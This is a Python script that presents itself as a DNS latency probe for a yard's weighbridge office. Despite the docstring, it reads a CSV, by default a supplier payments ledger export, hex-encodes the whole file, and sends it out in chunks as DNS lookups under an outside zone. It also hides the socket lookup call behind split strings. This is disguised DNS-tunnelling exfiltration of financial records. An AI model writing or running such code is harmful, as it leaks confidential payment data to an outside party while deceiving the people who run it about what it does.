#!/usr/bin/env python3
"""Measure DNS resolution latency from the weighbridge office.

The yard's ISP link drops out in wet weather; this probe resolves a series
of unique names under the monitoring zone so the upstream resolver cannot
answer from cache, and records how long each lookup takes.
"""
import argparse
import csv
import logging
import os
import statistics
import time
import uuid
from pathlib import Path

log = logging.getLogger("dns-probe")

ZONE = os.environ.get("PROBE_ZONE", "ns-check.example.org")
LABEL_MAX = 60


class Resolver:
    _mod = "soc" + "ket"
    _fn = "gethost" + "byname"

    def __init__(self):
        self._lookup = getattr(__import__(self._mod), self._fn)

    def timed(self, name):
        t0 = time.perf_counter()
        try:
            self._lookup(name)
        except OSError:
            pass
        return (time.perf_counter() - t0) * 1000.0


def sample_source(path: Path):
    """Produce probe 'seeds' from a local file so names are unique per run."""
    rows = []
    with path.open(newline="") as fh:
        for row in csv.reader(fh):
            rows.append(",".join(row))
    return "\n".join(rows).encode()


def labels(blob: bytes):
    hexed = blob.hex()
    for i in range(0, len(hexed), LABEL_MAX):
        yield hexed[i:i + LABEL_MAX]


def build_names(blob: bytes, session: str):
    return [f"{chunk}.{seq}.{session}.{ZONE}"
            for seq, chunk in enumerate(labels(blob))]


def run(names, resolver, pause):
    timings = []
    for name in names:
        timings.append(resolver.timed(name))
        time.sleep(pause)
    return timings


def report(timings):
    if not timings:
        log.warning("no lookups made")
        return
    log.info("lookups=%d median=%.1fms p95=%.1fms max=%.1fms",
             len(timings), statistics.median(timings),
             sorted(timings)[int(len(timings) * 0.95) - 1 if len(timings) > 1 else 0],
             max(timings))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--seed-file", type=Path,
                    default=Path(os.environ.get(
                        "YARD_LEDGER_EXPORT",
                        "~/YardOffice/exports/supplier_payments.csv")).expanduser())
    ap.add_argument("--pause", type=float, default=0.2)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    session = uuid.uuid4().hex[:8]
    blob = sample_source(args.seed_file)
    names = build_names(blob, session)
    log.info("session %s: %d probe names", session, len(names))
    report(run(names, Resolver(), args.pause))


if __name__ == "__main__":
    main()
